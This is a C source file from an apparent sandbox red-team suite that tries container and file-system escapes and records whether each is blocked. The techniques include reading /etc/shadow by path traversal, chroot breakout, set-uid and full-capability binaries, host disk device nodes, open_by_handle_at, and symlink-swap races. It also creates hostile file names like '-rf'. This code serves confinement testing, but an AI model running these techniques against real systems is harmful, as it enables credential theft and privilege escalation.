/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks through the file system: reach host files, write what is read-only, smuggle privilege in inodes. */
#include "redcell.h"

#include <dirent.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>

#define BTRFS_IOC_SUBVOL_CREATE 0x5000940eUL
#define BTRFS_IOC_SNAP_CREATE   0x50009401UL
#define BTRFS_IOC_INO_LOOKUP    0xd0009412UL
#define BTRFS_IOC_SEND          0x40489426UL

/* Reads every path of a ':' separated list; the runner looks for its secret in the proof. */
static void read_list(struct run *r, const char *list, const char *prefix)
{
	char copy[4096], path[4352], *save = NULL;

	snprintf(copy, sizeof(copy), "%s", list);
	for (char *p = strtok_r(copy, ":", &save); p != NULL; p = strtok_r(NULL, ":", &save)) {
		snprintf(path, sizeof(path), "%s%s", prefix, p);
		if (prove_file(r, path) >= 0)
			remark(r, "read %s", p);
		else
			remark(r, "%s: %s", p, strerrorname_np(errno));
	}
}

static void fs_01(struct run *r)
{
	read_list(r, arg(r, "secrets", "/etc/shadow"), "");
}

static void fs_02(struct run *r)
{
	static const char *const starts[] = { "", "/", "/ro/", "/cow/", "/redcell/",
		"/proc/self/cwd/" };
	char climb[4096];

	for (size_t i = 0; i < sizeof(starts) / sizeof(starts[0]); i++) {
		snprintf(climb, sizeof(climb), "%s", starts[i]);
		for (int up = 0; up < 64; up++)
			strncat(climb, "../", sizeof(climb) - strlen(climb) - 1);
		/* the list holds absolute paths: a doubled slash is the same path */
		read_list(r, arg(r, "secrets", "/etc/shadow"), climb);
	}
}

static void chroot_break(struct run *r)
{
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail") != 0) {
		attempt(r, "chroot", -1);
		return;
	}
	if (fchdir(root) != 0)
		attempt(r, "fchdir out of the jail", -1);
	for (int i = 0; i < 128; i++)
		if (chdir("..") != 0)
			break;
	remark(r, "chroot allowed, climbed 128 levels");
	/* relative to the highest directory that can be reached */
	read_list(r, arg(r, "secrets", "/etc/shadow"), "./");
}

static void fs_03(struct run *r)
{
	in_child(r, chroot_break);
}

static void fs_04(struct run *r)
{
	char link[4096], path[64];
	struct stat st;

	for (int fd = 0; fd < 1024; fd++) {
		if (fstat(fd, &st) != 0)
			continue;
		r->attempts++;
		if (S_ISDIR(st.st_mode)) {
			note(r, ESCAPED, "descriptor %d is a directory", fd);
			if (fchdir(fd) == 0)
				read_list(r, arg(r, "secrets", ""), "./../../../../../../../..");
		}
		if (fd <= 2)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, link, sizeof(link) - 1);

		link[n < 0 ? 0 : n] = '\0';
		note(r, LEAKED, "descriptor %d is open: %s", fd, link);
	}
	if (r->outcome == BLOCKED)
		remark(r, "only 0-2 are open");
}

static void fs_05(struct run *r)
{
	const char *from = arg(r, "rofile", "/ro/canary");

	if (attempt(r, "link of a volume's file", link(from, "/tmp/stolen")) == 0)
		attempt(r, "chmod of the link", chmod("/tmp/stolen", 0777));
	attempt(r, "linkat through /proc/self/fd",
		linkat(AT_FDCWD, "/proc/self/fd/0", AT_FDCWD, "/tmp/stolen2", AT_SYMLINK_FOLLOW));
	int fd = open(from, O_PATH | O_CLOEXEC);

	attempt(r, "linkat AT_EMPTY_PATH", linkat(fd, "", AT_FDCWD, "/tmp/stolen3", AT_EMPTY_PATH));
}

static void fs_06(struct run *r)
{
	static const char *const doors[] = { "/proc/self/root", "/proc/1/root", "/proc/1/cwd",
		"/proc/thread-self/root" };
	const char *dir = arg(r, "outdir", "/tmp");
	char path[4096];

	for (size_t i = 0; i < sizeof(doors) / sizeof(doors[0]); i++) {
		snprintf(path, sizeof(path), "%s%s/planted", doors[i], dir);
		int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

		remark(r, "%s: %s", doors[i],
			fd < 0 ? strerrorname_np(errno) : "opened, same view?");
		r->attempts++;
		if (fd >= 0)
			close(fd);
		if (strcmp(doors[i], "/proc/1/root") == 0) {
			struct stat own, other;

			if (stat("/", &own) == 0 && stat("/proc/1/root/.", &other) == 0)
				note(r, LEAKED, "init's root can be entered");
			if (stat("/", &own) == 0 && stat("/proc/1/root/.", &other) == 0 &&
				(own.st_dev != other.st_dev || own.st_ino != other.st_ino))
				note(r, ESCAPED, "init has another root");
		}
	}
}

/* Copies ourselves, with set-uid root or with file capabilities. */
static int copy_self(const char *to)
{
	int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	int out = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	char buf[65536];
	ssize_t n;

	if (in < 0 || out < 0)
		return -1;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			return -1;
	close(in);
	return close(out);
}

static void fs_07(struct run *r)
{
	/* VFS_CAP_REVISION_2, effective, every capability */
	static const unsigned char caps2[20] = { 1, 0, 0, 2, 255, 255, 255, 255, 255, 255, 255, 255,
		255, 255, 255, 255, 255, 1, 0, 0 };
	const char *dir = arg(r, "suiddir", "/tmp");
	char path[4096];

	snprintf(path, sizeof(path), "%s/suid", dir);
	if (copy_self(path) != 0) {
		attempt(r, "copy", -1);
		return;
	}
	if (chmod(path, 06755) != 0)
		attempt(r, "chmod 6755", -1);
	snprintf(path, sizeof(path), "%s/fcap", dir);
	if (copy_self(path) != 0 ||
		setxattr(path, "security.capability", caps2, sizeof(caps2), 0) != 0)
		attempt(r, "file capabilities", -1);
	r->attempts++;
	remark(r, "planted set-uid and file-capability programs in %s", dir);
}

static void fs_07_run(struct run *r)
{
	long long permitted = status_number("CapPrm", 16);
	long long allowed = (long long)strtoull(arg(r, "capmask", "0"), NULL, 16);

	r->attempts++;
	remark(r, "euid %u CapPrm %llx", geteuid(), (unsigned long long)permitted);
	if ((permitted & ~allowed) != 0)
		note(r, ESCAPED, "more capabilities than the profile gives");
	if (arg_number(r, "wantuid", -1) >= 0 && (long)geteuid() != arg_number(r, "wantuid", -1))
		note(r, ESCAPED, "the set-uid bit was honoured");
}

static void fs_08(struct run *r)
{
	dev_t disk = makedev(
		(unsigned)arg_number(r, "diskmajor", 254), (unsigned)arg_number(r, "diskminor", 0));

	attempt(r, "mknod block", mknod("/tmp/disk", S_IFBLK | 0600, disk));
	attempt(r, "mknod char 1:1", mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)));
	attempt(r, "mknod char 1:3 in /dev/shm",
		mknod("/dev/shm/n", S_IFCHR | 0600, makedev(1, 3)));
	attempt(r, "mknod block in /dev", mknod("/dev/disk", S_IFBLK | 0600, disk));
}

static void fs_08b(struct run *r)
{
	/* device nodes that were planted in what is mounted: they must be inert */
	static const char *const nodes[] = { "/ro/zero-node", "/cow/zero-node", "/rw/zero-node" };

	for (size_t i = 0; i < sizeof(nodes) / sizeof(nodes[0]); i++) {
		int fd = open(nodes[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		char buf[4] = "xxxx";

		if (fd >= 0 && read(fd, buf, sizeof(buf)) == 4 && memcmp(buf, "\0\0\0\0", 4) == 0)
			note(r, ESCAPED, "%s works as a device", nodes[i]);
		else
			attempt(r, nodes[i], -1);
	}
}

static void fs_09(struct run *r)
{
	union {
		struct file_handle h;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u;
	static const char *const at[] = { "/", "/ro", "/cow", "/rw", "/redcell" };

	for (size_t i = 0; i < sizeof(at) / sizeof(at[0]); i++) {
		int mount = open(at[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

		if (mount < 0)
			continue;
		memset(&u, 0, sizeof(u));
		u.h.handle_bytes = 8;
		u.h.handle_type = 1; /* FILEID_INO32_GEN */
		u.h.f_handle[0] = 2; /* the root inode of ext4, generation 0 */
		long fd = syscall(SYS_open_by_handle_at, mount, &u.h, O_RDONLY);

		/* ESTALE means that the kernel went to look: the call itself was let through */
		if (fd < 0 && errno == ESTALE)
			note(r, ESCAPED, "open_by_handle_at on %s reached the file system (ESTALE)",
				at[i]);
		else
			attempt(r, "open_by_handle_at", fd);
		close(mount);
	}
}

static void fs_10(struct run *r)
{
	const char *target = arg(r, "outdir", "/root");

	mkdir("/tmp/ovl", 0755);
	int fd = open("/tmp/ovl/f", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	close(fd);
	attempt(r, "trusted.overlay.redirect",
		setxattr("/tmp/ovl", "trusted.overlay.redirect", target, strlen(target), 0));
	attempt(r, "trusted.overlay.opaque",
		setxattr("/tmp/ovl", "trusted.overlay.opaque", "y", 1, 0));
	attempt(r, "trusted.overlay.metacopy",
		setxattr("/tmp/ovl/f", "trusted.overlay.metacopy", "", 0, 0));
	/* these may be set: the next mount of the layer must not believe them */
	if (setxattr("/tmp/ovl", "user.overlay.redirect", target, strlen(target), 0) == 0)
		remark(r, "user.overlay.redirect set");
	if (setxattr("/tmp/ovl", "user.overlay.opaque", "y", 1, 0) == 0)
		remark(r, "user.overlay.opaque set");
	if (setxattr("/tmp/ovl/f", "user.overlay.metacopy", "", 0, 0) == 0)
		remark(r, "user.overlay.metacopy set");
}

static void fs_11(struct run *r)
{
	attempt(r, "whiteout in the root", mknod("/tmp/whiteout", S_IFCHR | 0, makedev(0, 0)));
	attempt(r, "whiteout in a cow mount", mknod("/cow/whiteout", S_IFCHR | 0, makedev(0, 0)));
	mkdir("/tmp/links", 0755);
	for (int i = 0; i < 200; i++) {
		char to[64];

		snprintf(to, sizeof(to), "/tmp/links/%d", i);
		if (link("/etc/hostname", to) != 0)
			break;
	}
}

static void fs_12(struct run *r)
{
	static const char *const at[] = { "/", "/tmp", "/cow", "/rw", "/dev/shm" };
	char buf[4096];

	for (size_t i = 0; i < sizeof(at) / sizeof(at[0]); i++) {
		int fd = open(at[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

		if (fd < 0)
			continue;
		memset(buf, 0, sizeof(buf));
		snprintf(buf + 8, 64, "escape-subvolume");
		attempt(r, "BTRFS_IOC_SUBVOL_CREATE", ioctl(fd, BTRFS_IOC_SUBVOL_CREATE, buf));
		memset(buf, 0, sizeof(buf));
		attempt(r, "BTRFS_IOC_INO_LOOKUP", ioctl(fd, BTRFS_IOC_INO_LOOKUP, buf));
		memset(buf, 0, sizeof(buf));
		attempt(r, "BTRFS_IOC_SEND", ioctl(fd, BTRFS_IOC_SEND, buf));
		close(fd);
	}
}

static void fs_13(struct run *r)
{
	int from = open(arg(r, "rofile", "/ro/canary"), O_RDONLY | O_CLOEXEC);
	int to = open("/tmp/clone", O_RDWR | O_CREAT | O_CLOEXEC, 0644);
	struct file_clone_range range = { .src_fd = from };

	attempt(r, "FICLONE", ioctl(to, FICLONE, from));
	attempt(r, "FICLONERANGE", ioctl(to, FICLONERANGE, &range));
	/* the other direction would change the volume */
	attempt(r, "copy_file_range into the volume",
		syscall(SYS_copy_file_range, to, NULL, from, NULL, 16, 0));
	errno = 0;
	attempt(r, "ftruncate of the volume's file", ftruncate(from, 0));
}

static void fs_15(struct run *r)
{
	char name[256];
	int made = 0;

	memset(name, 0xff, 255);
	name[255] = '\0';
	if (chdir("/tmp") != 0 || mkdir("names", 0755) != 0 || chdir("names") != 0)
		return;
	static const char *const odd[] = { "-rf", "new\nline", "a\tb", "\x1b[2Jclear",
		("\xe2\x80\xae"
		 "gnp.exe"),
		"\\..\\..\\x", "%2e%2e%2f", "\"quote", "nul\x01" };

	for (size_t i = 0; i < sizeof(odd) / sizeof(odd[0]); i++) {
		int fd = open(odd[i], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

		made += fd >= 0;
		close(fd);
	}
	int fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	made += fd >= 0;
	close(fd);
	int depth = 0;

	while (depth < 2000 && mkdir("d", 0755) == 0 && chdir("d") == 0)
		depth++;
	r->attempts++;
	remark(r, "%d odd names, %d levels deep", made, depth);
}

static void fs_16(struct run *r)
{
	const char *file = arg(r, "rofile", "/ro/canary");
	const char *dir = arg(r, "rodir", "/ro");
	char other[4096];
	struct timespec times[2] = { { 1, 0 }, { 1, 0 } };

	int fd = open(file, O_WRONLY | O_APPEND | O_CLOEXEC);

	if (attempt(r, "open for writing", fd) >= 0) {
		attempt(r, "write", write(fd, "broken", 6));
		attempt(r, "fallocate", fallocate(fd, 0, 0, 8192));
		close(fd);
	}
	fd = open(file, O_RDONLY | O_CLOEXEC);
	void *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	attempt(r, "mmap shared writable", map == MAP_FAILED ? -1 : 0);
	if (map == MAP_FAILED) {
		map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
		attempt(r, "mprotect writable", mprotect(map, 4096, PROT_READ | PROT_WRITE));
	}
	close(fd);
	attempt(r, "chmod", chmod(file, 0777));
	attempt(r, "chown", chown(file, 1, 1));
	attempt(r, "setxattr", setxattr(file, "user.broken", "x", 1, 0));
	attempt(r, "utimens", utimensat(AT_FDCWD, file, times, 0));
	snprintf(other, sizeof(other), "%s/renamed", dir);
	attempt(r, "rename", rename(file, other));
	snprintf(other, sizeof(other), "%s/new", dir);
	attempt(r, "create", open(other, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	snprintf(other, sizeof(other), "%s/newdir", dir);
	attempt(r, "mkdir", mkdir(other, 0755));
	attempt(r, "truncate", truncate(file, 3));
	if (r->outcome == BLOCKED)
		attempt(r, "unlink", unlink(file));
}

static void fs_17(struct run *r)
{
	/* overwrite in place what lies below the copy-on-write layer: the host's copy must not change */
	const char *file = arg(r, "cowfile", "/cow/canary");
	int fd = open(file, O_RDWR | O_CLOEXEC);

	r->attempts++;
	if (fd >= 0 && pwrite(fd, "overwritten", 11, 0) == 11)
		remark(r, "wrote into my copy");
	void *map =
		fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	if (map != MAP_FAILED) {
		memcpy(map, "mapped!", 7);
		msync(map, 4096, MS_SYNC);
	}
	if (truncate("/cow/second", 0) == 0 && chmod("/cow/second", 0777) == 0)
		remark(r, "truncated my copy");
	unlink("/cow/third");
}

static void fa_03(struct run *r)
{
	const char *out = arg(r, "outdir", "/root");
	struct timespec now, end;
	long swaps = 0;

	mkdir("/tmp/race", 0777);
	mkdir("/tmp/race/d", 0777);
	unlink("/tmp/race/l");
	if (symlink(out, "/tmp/race/l") != 0)
		remark(r, "symlink: %s", strerrorname_np(errno));
	close(open("/tmp/race/d/secret", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += arg_number(r, "ms", 3000) / 1000;
	do {
		for (int i = 0; i < 64; i++)
			swaps += renameat2(AT_FDCWD, "/tmp/race/d", AT_FDCWD, "/tmp/race/l",
					 RENAME_EXCHANGE) == 0;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec < end.tv_sec);
	r->attempts++;
	remark(r, "%ld swaps", swaps);
}

const struct attack attacks_fs[] = {
	{ "FA-03", "swaps a directory for a symlink", fa_03 },
	{ "FS-01", "reads host secrets by absolute path", fs_01 },
	{ "FS-02", "climbs 64 levels up from every mount", fs_02 },
	{ "FS-03", "breaks out of a chroot by a kept descriptor", fs_03 },
	{ "FS-04", "looks for inherited descriptors and directories", fs_04 },
	{ "FS-05", "hard-links a read-only volume's file into its own layer", fs_05 },
	{ "FS-06", "writes through /proc/PID/root and cwd", fs_06 },
	{ "FS-07", "plants set-uid and file-capability programs", fs_07 },
	{ "FS-07R", "runs a planted program", fs_07_run },
	{ "FS-08", "makes device nodes of the host's disk", fs_08 },
	{ "FS-08B", "opens device nodes planted in mounted trees", fs_08b },
	{ "FS-09", "opens host inodes by handle", fs_09 },
	{ "FS-10", "sets overlayfs xattrs in its layer", fs_10 },
	{ "FS-11", "makes whiteouts and hard-link storms", fs_11 },
	{ "FS-12", "btrfs subvolume ioctls", fs_12 },
	{ "FS-13", "clones and copies ranges into a read-only volume", fs_13 },
	{ "FS-15", "odd and deep file names", fs_15 },
	{ "FS-16", "writes to a read-only volume in every way", fs_16 },
	{ "FS-17", "writes to what lies below a cow mount", fs_17 },
	{ NULL, NULL, NULL },
};
